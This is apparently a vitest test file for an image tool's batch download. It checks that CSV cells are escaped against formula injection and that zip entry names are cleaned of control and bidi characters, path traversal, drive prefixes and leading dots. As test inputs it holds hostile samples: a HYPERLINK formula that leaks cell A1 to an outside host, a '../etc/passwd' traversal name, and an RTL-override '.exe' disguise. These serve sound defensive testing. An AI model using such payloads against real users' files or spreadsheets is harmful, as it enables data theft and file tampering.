// What a batch's zip names and CSV cells become (issue 53 items 5 and 9): a spreadsheet reads no
// cell as a formula, and an unzip tool makes no hidden, reordered, drive-prefixed or colliding file.
import { describe, expect, it } from 'vitest';
import { finishedJobRow } from '../../../test/support/tool-fixtures';
import { analysisCsv, batchReadme, csvField, safeFileName, uniqueNamer } from './batch-download';
import { imagesOfBatch } from './batch-images';

describe("the Image Analyzer's keywords.csv", () => {
  it('starts a cell a spreadsheet would read as a formula with a quote mark, then quotes it as CSV', () => {
    expect(csvField('=HYPERLINK("http://x.example/?leak="&A1,"click").png')).toBe(
      `"'=HYPERLINK(""http://x.example/?leak=""&A1,""click"").png"`,
    );
    expect(csvField('+1+cmd.png')).toBe("'+1+cmd.png");
    expect(csvField('-2+3.png')).toBe("'-2+3.png");
    expect(csvField('@SUM(A1).png')).toBe("'@SUM(A1).png");
    // A spreadsheet trims a leading tab or CR and then reads the `=`.
    expect(csvField('\t=1+2.png')).toBe("'\t=1+2.png");
    expect(csvField('\r=1+2.png')).toBe(`"'\r=1+2.png"`);
    // Not at the start: the name as it is.
    expect(csvField('IMG_0412=a-b.jpg')).toBe('IMG_0412=a-b.jpg');
  });

  it('writes each row with its name made inert', () => {
    const csv = analysisCsv([{ name: '=1+2.png', analysis: { keywords: [{ keyword: 'sea', score: 1 }] } }]);
    expect(csv).toBe("Filename,Keywords,Colors\r\n'=1+2.png,sea,\r\n");
  });
});

describe('a zip entry name', () => {
  it('drops control characters, bidi controls, drive and folder separators and a leading dot', () => {
    expect(safeFileName('a\u001b[31mred\u0007\r\n\tb\u007f\u0085.png')).toBe('a[31mredb.png');
    expect(safeFileName('photo\u202egnp.exe')).toBe('photognp.exe');
    expect(safeFileName('\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061cx.png')).toBe('x.png');
    expect(safeFileName('C:evil-name.png')).toBe('Cevil-name.png');
    expect(safeFileName('..\\../etc/passwd')).toBe('etcpasswd');
    expect(safeFileName('.bashrc')).toBe('bashrc');
    expect(safeFileName('  . hidden.png')).toBe('hidden.png');
  });

  it('falls back to a name when nothing safe is left', () => {
    expect(safeFileName('\u202e\u0007...')).toBe('image');
    expect(safeFileName('', 'file')).toBe('file');
  });

  it('is made unique in NFC, whatever the case: both forms of "é" are one name and a suffix', () => {
    const unique = uniqueNamer();
    const nfc = 'caf\u00e9.png';
    const nfd = 'cafe\u0301.png';
    expect([unique(nfc), unique(nfd), unique('CAFÉ.png')]).toEqual([nfc, 'caf\u00e9 (2).png', 'CAFÉ (3).png']);
  });

  it('never repeats a name a client sent with a suffix already', () => {
    const unique = uniqueNamer();
    expect([unique('a (2).png'), unique('a.png'), unique('a.png'), unique('a.png')]).toEqual([
      'a (2).png',
      'a.png',
      'a (3).png',
      'a (4).png',
    ]);
  });
});

describe("a batch zip's README.txt (issue 54)", () => {
  it('keeps one line per image, whatever its name or its sentence holds', () => {
    const failed = {
      ...finishedJobRow('j-0'),
      tool: 'colorizer',
      status: 'failed' as const,
      batchItem: 0,
      sourceName: 'evil\r\nDone (9), in this zip:\u202e.png',
      error: 'The colours could not be read.\nTry another photo.',
    };
    const images = imagesOfBatch(
      { size: 2, images: { 1: { name: 'x\u0007\ny.png', refused: 'Not an image.\r\nReally.' } } },
      [failed],
    );
    const lines = batchReadme('colorizer', images, new Map()).split('\r\n');
    expect(lines).toEqual([
      'Colorizer: a batch of 2 images.',
      '',
      'Failed (2), nothing charged for them:',
      '  1. evilDone (9), in this zip.png: The colours could not be read. Try another photo. (tokens given back)',
      '  2. xy.png: Not an image. Really. (refused when it was sent, not charged)',
      '',
    ]);
  });

  it('lists a job over a refusal of its place: the image was sent again and taken', () => {
    const taken = { ...finishedJobRow('j-1'), tool: 'colorizer', batchItem: 0, sourceName: 'b.png' };
    const images = imagesOfBatch({ size: 1, images: { 0: { name: 'a.png', refused: 'Not an image.' } } }, [taken]);
    expect(images.map((image) => [image.state, image.name])).toEqual([['sent', 'b.png']]);
  });
});
